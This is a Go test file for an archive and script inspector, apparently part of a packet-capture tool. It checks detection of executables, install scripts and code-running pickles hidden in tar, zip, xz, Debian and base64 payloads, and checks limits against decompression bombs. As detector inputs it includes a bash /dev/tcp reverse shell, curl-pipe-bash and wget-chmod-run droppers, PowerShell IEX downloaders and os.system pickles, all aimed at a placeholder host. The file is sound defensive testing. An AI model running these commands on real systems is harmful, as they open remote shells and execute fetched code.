package file

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/ulikunitz/xz"

	"github.com/raytap/raytap/capture"
)

const elfHead = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00"

type member struct{ name, body string }

func tarOf(t testing.TB, ms ...member) []byte {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for _, m := range ms {
		if err := w.WriteHeader(&tar.Header{Name: m.name, Mode: 0o755, Size: int64(len(m.body)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		io.WriteString(w, m.body)
	}
	w.Close()
	return b.Bytes()
}

func gz(b []byte) []byte {
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	w.Write(b)
	w.Close()
	return out.Bytes()
}

func pack(t testing.TB, b []byte) []byte {
	var out bytes.Buffer
	w, err := xz.NewWriter(&out)
	if err != nil {
		t.Fatal(err)
	}
	w.Write(b)
	w.Close()
	return out.Bytes()
}

// bcj writes a block header in which x86 code is filtered and a dictionary of 1.5 GiB is asked for. Noise has hardly a jump
// for the filter to change.
func bcj(b []byte) []byte {
	const stream = 12
	head := []byte{2, 1, 0x04, 0, 0x21, 1, 37, 0}
	head = binary.LittleEndian.AppendUint32(head, crc32.ChecksumIEEE(head))
	return slices.Concat(b[:stream], head, b[stream+4*(int(b[stream])+1):])
}

func zipOf(t testing.TB, method uint16, ms ...member) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, m := range ms {
		f, err := w.CreateHeader(&zip.FileHeader{Name: m.name, Method: method})
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(f, m.body)
	}
	w.Close()
	return b.Bytes()
}

func arOf(ms ...member) []byte {
	b := []byte("!<arch>\n")
	for _, m := range ms {
		b = append(b, fmt.Sprintf("%-16s%-12s%-6s%-6s%-8s%-10d`\n", m.name, "0", "0", "0", "100644", len(m.body))...)
		b = append(b, m.body...)
		if len(m.body)%2 == 1 {
			b = append(b, '\n')
		}
	}
	return b
}

// readIn gives what a Reader makes of b in pieces of n bytes.
func readIn(b []byte, n int) *File {
	var r Reader
	r.Open(NewCache(Options{HashLimit: 1 << 20}))
	for i := 0; i < len(b); i += n {
		r.Write(capture.At{Packet: 1}, b[i:min(i+n, len(b))])
	}
	return r.Close()[0]
}

func TestInside(t *testing.T) {
	noise := make([]byte, 40<<10)
	rng := rand.New(rand.NewPCG(1, 2))
	for i := range noise {
		noise[i] = byte(rng.Uint32())
	}
	program := elfHead + string(noise)
	long := make([]byte, 300<<10)
	for i := range long {
		long[i] = byte(rng.Uint32())
	}
	evil := "\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."
	tests := []struct {
		says string
		b    []byte
		kind Kind
		form string
		name string
	}{
		{"a miner's release", gz(tarOf(t, member{"xmrig/SHA256SUMS", "0123 config.json\n"}, member{"xmrig/config.json", "{}"}, member{"xmrig/xmrig", program})), Executable, "tar", "xmrig/xmrig"},
		{"a plain tar", tarOf(t, member{"run.sh", "#!/bin/sh\nid\n"}), Script, "tar", "run.sh"},
		{"a compressed program", gz([]byte(program)), Executable, "gzip", ""},
		{"a zip, stored", zipOf(t, zip.Store, member{"a.txt", "hello"}, member{"x", program}), Executable, "zip", "x"},
		{"a zip, deflated, lengths behind", zipOf(t, zip.Deflate, member{"a.txt", "hello"}, member{"x", program}), Executable, "zip", "x"},
		{"a source distribution", gz(tarOf(t, member{"p-1/PKG-INFO", "Name: p"}, member{"p-1/setup.py", "from setuptools import setup\n"})), Script, "tar", "p-1/setup.py"},
		{"a model archive", zipOf(t, zip.Deflate, member{"model.safetensors", "\x90\x00\x00\x00\x00\x00\x00\x00{\"a\":{\"dtype\":\"F16\"}}"}), Safetensors, "zip", "model.safetensors"},
		{"a torch archive that runs something", zipOf(t, zip.Store, member{"m/data.pkl", evil}), Pickle, "zip", "m/data.pkl"},
		{"a package of Debian", arOf(member{"debian-binary", "2.0\n"}, member{"control.tar.gz", string(gz(tarOf(t, member{"./postinst", "#!/bin/sh\nid\n"})))}), Script, "Debian package", "./postinst"},
		{"a release by xz", pack(t, tarOf(t, member{"m/config.json", "{}"}, member{"m/xmrig", program})), Executable, "tar", "m/xmrig"},
		{"a long one by xz, cut where the look ends", pack(t, tarOf(t, member{"m/notes", "text"}, member{"m/xmrig", elfHead + string(long)})), Executable, "tar", "m/xmrig"},
		{"a program by xz", pack(t, []byte(program)), Executable, "xz", ""},
		{"one behind a filter, from a dictionary of 1.5 GiB", bcj(pack(t, []byte(program))), Executable, "xz", ""},
		{"one by xz whose end did not come", pack(t, []byte(program))[:20<<10], Executable, "xz", ""},
		{"a package of Debian today", arOf(member{"debian-binary", "2.0\n"}, member{"control.tar.xz", string(pack(t, tarOf(t, member{"./postinst", "#!/bin/sh\nid\n"})))}), Script, "Debian package", "./postinst"},
		{"base64 of xz", []byte(base64.StdEncoding.EncodeToString(pack(t, []byte(program)))), Executable, "base64 and xz", ""},
		{"base64", []byte(base64.StdEncoding.EncodeToString([]byte(program))), Executable, "base64", ""},
		{"base64 of gzip", []byte(base64.StdEncoding.EncodeToString(gz([]byte(program)))), Executable, "base64 and gzip", ""},

		{"documents", gz(tarOf(t, member{"doc/README", "read me"}, member{"doc/a.png", "\x89PNG\r\n\x1a\n"})), None, "", ""},
		{"documents by xz", pack(t, tarOf(t, member{"doc/README", "read me"}, member{"doc/a.png", "\x89PNG\r\n\x1a\n"})), None, "", ""},
		{"a table by xz", pack(t, []byte(strings.Repeat("a,b,c\n1,2,3\n", 1000))), None, "", ""},
		{"half an xz head", []byte("\xfd7zXZ\x00\x00\x04\xe6\xd6\xb4\x46\x02\x00\x21\x01"), None, "", ""},
		{"xz with nothing in it", []byte("\xfd7zXZ\x00\x00\x04\xe6\xd6\xb4\x46\x00\x00\x00\x00\x1c\xdf\x44\x21\x1f\xb6\xf3\x7d\x01\x00\x00\x00\x00\x04YZ"), None, "", ""},
		{"a compressed page", gz([]byte("<!DOCTYPE html><html></html>")), None, "", ""},
		{"a torch archive of tensors", zipOf(t, zip.Store, member{"m/data.pkl", "\x80\x02ctorch._utils\n_rebuild_tensor_v2\nq\x00."}), None, "", ""},
		{"a text that begins like base64", []byte("H4sI is how gzip begins when somebody encodes it, says the manual"), None, "", ""},
		{"half a gzip head", []byte("\x1f\x8b\x08\x00\x00\x00"), None, "", ""},
		{"a tar whose length is nonsense", append(append(tarOf(t, member{"a", "x"})[:124:124], "zzzzzzzzzzzz"...), make([]byte, 400)...), None, "", ""},
	}
	for _, tt := range tests {
		for _, n := range []int{len(tt.b), 1400, 97} {
			in := readIn(tt.b, n).Inside
			switch {
			case tt.kind == None && in == nil:
			case in == nil:
				t.Errorf("%s, by %d: nothing", tt.says, n)
			case in.Kind != tt.kind || in.Form != tt.form || in.Name != tt.name:
				t.Errorf("%s, by %d: %v in %s, %q", tt.says, n, in.Kind, in.Form, in.Name)
			}
		}
	}
}

// A bomb costs its bound, and no more.
func TestInsideOfABomb(t *testing.T) {
	bomb := gz(make([]byte, 64<<20))
	if u, _ := unpack(bomb[:min(len(bomb), InsideLen)]); len(u) > maxUnpacked {
		t.Errorf("%d bytes", len(u))
	}
	bomb = pack(t, make([]byte, 64<<20))
	if u, _ := unpack(bomb[:min(len(bomb), InsideLen)]); len(u) == 0 || len(u) > maxUnpacked {
		t.Errorf("%d bytes", len(u))
	}
	if b := bytes.Repeat(zipOf(t, zip.Deflate, member{"a", strings.Repeat("\x00", 1<<20)}), 50); look(b, "application/zip", Archive) != nil {
		t.Error("found something")
	}
}

// Chunks that ask for state after state, and for large ones, are not read.
func TestInsideOfChunks(t *testing.T) {
	one := func(props byte) []byte { return []byte{0xe0, 0, 0, 0, 4, props, 0, 0, 0, 0, 0} }
	if b := chunks(bytes.Repeat(one(0x5d), 6000)); len(b) != maxChunks*len(one(0)) {
		t.Errorf("%d bytes of many chunks", len(b))
	}
	for props, good := range map[byte]bool{0x5d: true, 4: true, 8: false, 4*9 + 1: false, 225: false} {
		if b := chunks(one(props)); (len(b) > 0) != good {
			t.Errorf("properties %d: %d bytes", props, len(b))
		}
	}
	if b := chunks([]byte{1, 0, 9, 'x', 'y'}); len(b) != 5 {
		t.Errorf("%d bytes of a chunk that is cut", len(b))
	}
}

func TestUnmarkedScripts(t *testing.T) {
	for _, s := range []string{
		"\n#!/bin/sh\nid\n",
		"cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.77/arm7; chmod 777 arm7; ./arm7 ray; rm -rf arm7\n",
		"# setup\nexport PATH=$PATH:/bin\ncurl -s http://198.51.100.77/a | bash\n",
		"import os,socket,subprocess\nos.system(\"id\")\n",
		"import socket as s, subprocess\nsubprocess.call(['/bin/sh','-i'])\n",
		"from urllib.request import urlopen\nexec(urlopen('http://198.51.100.77/b').read())\n",
		"bash -i >& /dev/tcp/198.51.100.77/4444 0>&1\n",
		"$c = New-Object System.Net.WebClient\nIEX $c.DownloadString('http://198.51.100.77/a')\n",
		"use Socket;\n$i='198.51.100.77';exec('/bin/sh -i');\n",
		"if [ -x /usr/bin/curl ]; then curl -o /tmp/k http://198.51.100.77/k; fi\nchmod +x /tmp/k\n/tmp/k\n",
	} {
		if f := readIn([]byte(s), len(s)); f.Kind != Script || !f.Unmarked {
			t.Errorf("%q: %v", s, f.Kind)
		}
	}
	for _, s := range []string{
		"To install, run: curl -sSf https://sh.rustup.rs | sh\n",
		"Run wget http://mirror/x.tar.gz, then chmod +x it and start ./x.\n",
		"# Changelog\n\n## 1.2\n* curl is used instead of wget; sh is not needed\n",
		"import is the most important word of trade; we eval(uate) it\n",
		"from the beginning, everybody import(s) os.system() calls\n",
		"# HELP x y\nup{job=\"ray\"} 1\n",
		"import numpy as np\nprint(np.zeros(3))\n",
		"hello world, this is text\n",
		"PATH=/usr/bin\nHOME=/root\n",
		"wget http://198.51.100.77/data.csv\n",
	} {
		if f := readIn([]byte(s), len(s)); f.Kind == Script {
			t.Errorf("%q is no script", s)
		}
	}
}

func TestPicklesThatRun(t *testing.T) {
	for s, want := range map[string]string{
		"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94": "posix.system",
		"\x80\x02csubprocess\nPopen\nq\x00":           "subprocess.Popen",
		"cos\nsystem\n(S'id'\ntR.":                    "os.system",
		"\x80\x04\x8c\x08builtins\x8c\x04exec\x93":    "builtins.exec",
		"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n": "",
		"\x80\x04\x8c\x05posix\x94\x8c\x03etc\x94":    "",
		"the posix system call":                       "",
	} {
		if got := Runs([]byte(s)); got != want {
			t.Errorf("%q: %q", s, got)
		}
	}
}

func FuzzInside(f *testing.F) {
	f.Add(gz(tarOf(f, member{"a", elfHead})))
	f.Add(pack(f, tarOf(f, member{"a", elfHead})))
	f.Add(zipOf(f, zip.Deflate, member{"a", elfHead}))
	f.Add(arOf(member{"debian-binary", "2.0\n"}, member{"data.tar", string(tarOf(f, member{"a", elfHead}))}))
	f.Add([]byte("cd /tmp; wget x; chmod +x x\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		if len(b) == 0 {
			return
		}
		if one, two := readIn(b, len(b)), readIn(b, 7); (one.Inside == nil) != (two.Inside == nil) || one.Kind != two.Kind {
			t.Errorf("%v and %v", one.Inside, two.Inside)
		}
	})
}
